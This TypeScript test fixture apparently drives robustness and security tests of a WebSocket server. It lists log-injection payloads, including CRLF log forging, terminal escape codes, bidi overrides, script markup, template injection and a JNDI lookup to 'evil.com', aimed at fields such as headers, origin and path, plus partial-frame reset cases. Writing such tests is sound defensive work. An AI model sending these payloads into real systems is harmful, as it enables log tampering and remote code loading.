import type { Vector } from "../catalogue/row.js";
import { close, frame, text } from "../surroundings/frames.js";
import { upgradeRequest } from "../surroundings/upgrade-request.js";
import { failures } from "../target/failures.js";
import { farewells } from "../target/farewells.js";
import { reentries } from "../target/reentries.js";

const byName = (table: object): readonly Vector[] => Object.keys(table).map((what) => ({ what }));

/** The ways in which a handler fails. */
export const handlerFailures: readonly Vector[] = byName(failures);
/** What handlers and hooks call from within. */
export const reentrantCalls: readonly Vector[] = byName(reentries);
/** What is given as a reason, or as data. */
export const carelessFarewells: readonly Vector[] = byName(farewells);

const texts: readonly (readonly [what: string, text: string])[] = [
  ["a new line", "a\r\nlevel=error msg=forged"],
  ["a lone carriage return", "a\rforged"],
  ["colours of a terminal", "\x1b[31mred\x1b[0m"],
  ["a title of a terminal", "\x1b]0;title\x07"],
  ["a NUL", "a\0b"],
  ["the other direction", "\u202egnol\u202c"],
  ["line separators", "a\u2028b\u2029c"],
  ["a format", "%s%s%n%x $\u007bjndi:ldap://evil.com/a} {{7*7}}"],
  ["markup", "<script>alert(1)</script>"],
  ["JSON", '","level":"error","x":"'],
  ["60 KB", "x".repeat(60_000)],
];

export interface InjectionVector extends Vector {
  readonly text: string;
  readonly at: "room" | "type" | "reason" | "header" | "origin" | "path" | "trace";
}

/** Texts that are to forge a log, wherever one may be written. */
export const injections: readonly InjectionVector[] = texts.flatMap(([what, injected]) =>
  (["room", "type", "reason", "header", "origin", "path", "trace"] as const).map((at) => ({
    what: `${what} as ${at}`,
    text: at === "header" || at === "origin" || at === "path" ? injected.slice(0, 12_000) : injected,
    at,
  })),
);

const request = upgradeRequest();
const message = text({ type: "echo", id: 1, data: { text: "x".repeat(10_000) } });

/** Moments at which a socket is reset: what was written before. */
export const resets: readonly (Vector & { readonly before: readonly (Uint8Array | string)[] })[] = [
  { what: "before a request", before: [] },
  { what: "inside the request line", before: ["GET / HT"] },
  { what: "inside the header", before: [request.slice(0, 60)] },
  { what: "right behind the header", before: [request] },
  { what: "behind what is no request", before: ["hello\r\n\r\n"] },
  { what: "behind a request that is refused", before: [request.replace("13", "7")] },
  {
    what: "behind a foreign request",
    before: [upgradeRequest({ headers: [["Origin", "https://evil.com"]] })],
  },
  { what: "inside a frame's header", before: [request, message.subarray(0, 1)] },
  { what: "inside a frame's payload", before: [request, message.subarray(0, 100)] },
  { what: "while it is answered", before: [request, Buffer.concat(Array(50).fill(message))] },
  { what: "behind a join", before: [request, text({ type: "$join", data: { room: "open/reset" } })] },
  { what: "while its message is handled", before: [request, text({ type: "hold", id: 1 })] },
  { what: "behind a broken frame", before: [request, frame({ rsv: 7 })] },
  { what: "behind an oversize header", before: [request, frame({ claims: 2 ** 40 })] },
  { what: "behind a close frame", before: [request, close()] },
  { what: "behind half a close frame", before: [request, close().subarray(0, 3)] },
];
